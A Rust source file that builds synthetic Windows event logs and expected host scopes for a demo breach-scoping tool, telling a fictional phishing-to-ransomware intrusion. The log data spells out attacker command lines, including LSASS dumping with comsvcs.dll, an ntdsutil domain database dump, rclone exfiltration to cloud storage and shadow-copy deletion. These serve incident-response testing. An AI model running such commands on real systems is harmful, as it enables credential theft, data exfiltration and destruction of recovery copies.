//! The demo company's event logs, as JSON exports (the `Event.System` /
//! `Event.EventData` shape EVTX-to-JSON tools write), telling the seed's
//! story: a phishing document opened on WS07 on Feb 2, a beacon, discovery,
//! credential theft, lateral movement to the domain controller and the file
//! server, 7-Zip staging and rclone on the file server, encryption on Feb
//! 16, nothing after. ERP, CRM and point-of-sale hosts carry full clean
//! telemetry; a backup server only sees a network logon; one workstation's
//! logs stop before the attack; one has none.

use chrono::{DateTime, Duration, TimeZone, Utc};
use serde_json::{json, Value};
use std::collections::BTreeMap;

/// The actor's command-and-control address and the indicators the case's
/// intel gives.
pub const C2_ADDRESS: &str = "203.0.113.50";
/// The renamed rclone binary.
pub const RCLONE_NAME: &str = "svchost32.exe";

/// One host of the demo network.
#[derive(Debug, Clone)]
pub struct Host {
    pub name: &'static str,
    pub role: &'static str,
    pub address: &'static str,
    /// The status breachscope must find.
    pub expected: &'static str,
}

/// Every host, with its expected scope.
pub const HOSTS: &[Host] = &[
    Host {
        name: "WS07",
        role: "workstation (phished user)",
        address: "10.20.8.51",
        expected: "compromised",
    },
    Host {
        name: "DC01",
        role: "domain controller",
        address: "10.20.1.10",
        expected: "compromised",
    },
    Host {
        name: "FS01",
        role: "file server",
        address: "10.20.5.11",
        expected: "compromised",
    },
    Host {
        name: "BKP01",
        role: "backup server",
        address: "10.20.5.20",
        expected: "accessed",
    },
    Host {
        name: "ERP01",
        role: "ERP",
        address: "10.20.6.10",
        expected: "no-evidence",
    },
    Host {
        name: "CRM01",
        role: "CRM",
        address: "10.20.6.11",
        expected: "no-evidence",
    },
    Host {
        name: "POS01",
        role: "point-of-sale server",
        address: "10.20.7.10",
        expected: "no-evidence",
    },
    Host {
        name: "WS03",
        role: "workstation",
        address: "10.20.8.33",
        expected: "no-telemetry",
    },
    Host {
        name: "WS12",
        role: "workstation",
        address: "10.20.8.62",
        expected: "no-telemetry",
    },
];

const SYSMON: &str = "Microsoft-Windows-Sysmon/Operational";
const SECURITY: &str = "Security";

fn at(month: u32, day: u32, hour: u32, minute: u32) -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2022, month, day, hour, minute, 0)
        .single()
        .expect("valid demo time")
}

/// Events of one host, by channel, with their record ids.
#[derive(Default)]
struct HostLog {
    channels: BTreeMap<&'static str, Vec<Value>>,
}

impl HostLog {
    fn push(&mut self, host: &str, channel: &'static str, event_id: u32, time: DateTime<Utc>, data: Value) {
        let events = self.channels.entry(channel).or_default();
        let provider = if channel == SYSMON {
            "Microsoft-Windows-Sysmon"
        } else {
            "Microsoft-Windows-Security-Auditing"
        };
        events.push(json!({"Event": {
            "System": {
                "Provider": {"#attributes": {"Name": provider}},
                "EventID": event_id,
                "EventRecordID": events.len() + 1,
                "Channel": channel,
                "Computer": format!("{host}.demo.local"),
                "TimeCreated": {"#attributes": {"SystemTime": time.to_rfc3339_opts(chrono::SecondsFormat::Secs, true)}}
            },
            "EventData": data
        }}));
    }

    fn process(&mut self, host: &str, time: DateTime<Utc>, user: &str, parent: &str, image: &str, command: &str) {
        self.push(
            host,
            SYSMON,
            1,
            time,
            json!({"User": user, "ParentImage": parent, "Image": image, "CommandLine": command}),
        );
    }

    fn logon(&mut self, host: &str, time: DateTime<Utc>, user: &str, logon_type: u32, source: &str) {
        self.push(
            host,
            SECURITY,
            4624,
            time,
            json!({"TargetUserName": user, "TargetDomainName": "DEMO", "LogonType": logon_type, "IpAddress": source}),
        );
    }

    /// Ordinary activity every few hours between `from` and `to`.
    fn baseline(&mut self, host: &str, user: &str, from: DateTime<Utc>, to: DateTime<Utc>) {
        let mut t = from;
        let mut n = 0u32;
        while t <= to {
            let (image, command) = [
                (
                    "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                    "chrome.exe --type=renderer",
                ),
                ("C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs"),
                (
                    "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
                    "EXCEL.EXE /automation",
                ),
            ][n as usize % 3];
            self.process(
                host,
                t,
                &format!("DEMO\\{user}"),
                "C:\\Windows\\explorer.exe",
                image,
                command,
            );
            if n.is_multiple_of(4) {
                self.logon(host, t, user, if user.ends_with("_svc") { 5 } else { 2 }, "-");
            }
            t += Duration::hours(3);
            n += 1;
        }
    }

    /// The export files: one JSONL per channel.
    fn files(&self) -> Vec<(String, Vec<u8>)> {
        self.channels
            .iter()
            .map(|(channel, events)| {
                let name = if *channel == SYSMON {
                    "sysmon.jsonl"
                } else {
                    "security.jsonl"
                };
                let body: String = events.iter().map(|e| e.to_string() + "\n").collect();
                (name.to_string(), body.into_bytes())
            })
            .collect()
    }
}

/// The log files of every host: `(host, file name, bytes)`.
pub fn event_logs() -> Vec<(&'static str, String, Vec<u8>)> {
    let (start, end) = (at(1, 20, 6, 0), at(2, 28, 18, 0));
    let mut logs: BTreeMap<&str, HostLog> = BTreeMap::new();
    let ws07 = HOSTS[0].address;
    for host in HOSTS {
        let log = logs.entry(host.name).or_default();
        match host.name {
            "WS12" => {}
            "WS03" => log.baseline(host.name, "mgagnon", start, at(1, 31, 18, 0)),
            "WS07" => log.baseline(host.name, "jroe", start, end),
            "ERP01" => log.baseline(host.name, "erp_svc", start, end),
            "CRM01" => log.baseline(host.name, "crm_svc", start, end),
            "POS01" => log.baseline(host.name, "pos_svc", start, end),
            _ => log.baseline(host.name, "svc_monitor", start, end),
        }
    }
    let ws = logs.get_mut("WS07").expect("WS07");
    let user = "DEMO\\jroe";
    ws.process(
        "WS07",
        at(2, 2, 14, 3),
        user,
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    );
    let mut t = at(2, 2, 14, 10);
    while t < at(2, 16, 23, 0) {
        ws.push("WS07", SYSMON, 3, t, json!({"Image": "C:\\Windows\\System32\\rundll32.exe", "User": user, "DestinationIp": C2_ADDRESS, "DestinationPort": 443, "SourceIp": ws07}));
        t += Duration::hours(2);
    }
    ws.process(
        "WS07",
        at(2, 3, 9, 40),
        user,
        "C:\\Windows\\System32\\rundll32.exe",
        "C:\\Windows\\System32\\nltest.exe",
        "nltest /dclist:demo.local",
    );
    ws.process(
        "WS07",
        at(2, 3, 9, 52),
        user,
        "C:\\Windows\\System32\\rundll32.exe",
        "C:\\Users\\Public\\adfind.exe",
        "adfind.exe -f objectcategory=computer",
    );
    ws.process(
        "WS07",
        at(2, 4, 2, 15),
        user,
        "C:\\Windows\\System32\\rundll32.exe",
        "C:\\Windows\\System32\\rundll32.exe",
        "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full",
    );
    let dc = logs.get_mut("DC01").expect("DC01");
    dc.logon("DC01", at(2, 5, 10, 12), "svc_backup", 10, ws07);
    dc.process(
        "DC01",
        at(2, 6, 1, 30),
        "DEMO\\svc_backup",
        "C:\\Windows\\System32\\cmd.exe",
        "C:\\Windows\\System32\\ntdsutil.exe",
        "ntdsutil \"ac i ntds\" ifm \"create full c:\\perflogs\\ntds\" q q",
    );
    let bkp = logs.get_mut("BKP01").expect("BKP01");
    bkp.logon("BKP01", at(2, 9, 3, 5), "svc_backup", 3, ws07);
    let fs = logs.get_mut("FS01").expect("FS01");
    fs.logon("FS01", at(2, 8, 22, 40), "svc_backup", 3, ws07);
    fs.process(
        "FS01",
        at(2, 8, 22, 41),
        "NT AUTHORITY\\SYSTEM",
        "C:\\Windows\\System32\\services.exe",
        "C:\\Windows\\PSEXESVC.exe",
        "C:\\Windows\\PSEXESVC.exe",
    );
    for (i, folder) in ["Finance", "Purchasing", "Legal", "Credit"].iter().enumerate() {
        let day = 10 + i as u32 / 2;
        fs.process(
            "FS01",
            at(2, day, 2, 10 + 7 * i as u32),
            "DEMO\\svc_backup",
            "C:\\Windows\\System32\\cmd.exe",
            "C:\\ProgramData\\7za.exe",
            &format!("7za.exe a -tzip -mx5 -pWinter2022! C:\\ProgramData\\s{i}.zip D:\\share\\{folder}"),
        );
    }
    fs.push("FS01", SYSMON, 11, at(2, 12, 3, 0), json!({"Image": format!("C:\\ProgramData\\{RCLONE_NAME}"), "TargetFilename": "C:\\Users\\svc_backup\\AppData\\Roaming\\rclone\\rclone.conf", "User": "DEMO\\svc_backup"}));
    for (i, day) in [12u32, 13, 14].iter().enumerate() {
        let command =
            format!("{RCLONE_NAME} copy C:\\ProgramData\\s{i}.zip mega:backup -q --ignore-existing --transfers 3");
        fs.push("FS01", SYSMON, 1, at(2, *day, 3, 30), json!({"User": "DEMO\\svc_backup", "ParentImage": "C:\\Windows\\System32\\cmd.exe", "Image": format!("C:\\ProgramData\\{RCLONE_NAME}"), "Description": "Rsync for cloud storage", "Product": "Rclone", "CommandLine": command}));
    }
    fs.process(
        "FS01",
        at(2, 16, 4, 0),
        "DEMO\\svc_backup",
        "C:\\Windows\\System32\\cmd.exe",
        "C:\\Windows\\System32\\vssadmin.exe",
        "vssadmin.exe delete shadows /all /quiet",
    );
    for n in 0..60u32 {
        let name = format!("D:\\share\\Finance\\2021\\INV-2021-{:05}.docx.conti", n + 1);
        let time = at(2, 16, 4, 1) + Duration::seconds(i64::from(n) * 3);
        fs.push(
            "FS01",
            SYSMON,
            11,
            time,
            json!({"Image": "C:\\ProgramData\\locker.exe", "TargetFilename": name, "User": "DEMO\\svc_backup"}),
        );
    }
    for (i, folder) in ["Finance", "Purchasing", "Legal"].iter().enumerate() {
        fs.push("FS01", SYSMON, 11, at(2, 16, 4, 5 + i as u32), json!({"Image": "C:\\ProgramData\\locker.exe", "TargetFilename": format!("D:\\share\\{folder}\\R3ADM3.txt"), "User": "DEMO\\svc_backup"}));
    }
    let mut files = Vec::new();
    for (host, log) in logs {
        let host = HOSTS.iter().find(|h| h.name == host).expect("known host").name;
        for (name, bytes) in log.files() {
            files.push((host, name, bytes));
        }
    }
    files
}

/// The intel the responder received: indicators as CSV.
pub fn indicators_csv() -> String {
    format!(
        "type,value,note\nip,{C2_ADDRESS},Cobalt Strike C2 (intel)\nfilename,{RCLONE_NAME},renamed rclone (intel)\n"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_happens_after_the_actor_is_shut_out() {
        let logs = event_logs();
        assert!(logs.iter().all(|(h, _, _)| *h != "WS12"), "WS12 has no logs");
        for (host, _, bytes) in &logs {
            let text = String::from_utf8_lossy(bytes);
            for line in text.lines().filter(|l| l.contains(C2_ADDRESS) || l.contains("R3ADM3")) {
                let event: Value = serde_json::from_str(line).unwrap();
                let time = event["Event"]["System"]["TimeCreated"]["#attributes"]["SystemTime"]
                    .as_str()
                    .unwrap();
                assert!(time < "2022-02-17", "{host}: {time}");
            }
        }
    }
}
